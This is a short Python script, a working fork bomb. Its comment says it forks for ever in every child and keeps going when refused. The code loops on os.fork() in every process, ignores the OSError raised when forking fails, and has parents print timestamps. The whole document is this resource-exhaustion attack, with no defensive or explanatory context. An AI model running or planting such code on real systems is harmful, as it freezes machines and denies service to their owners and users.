# Forks for ever, in all the children too, and does not stop when it is refused.
import os, time

while True:
    try:
        if os.fork() != 0:
            print("at", time.time(), flush=True)
    except OSError:
        pass
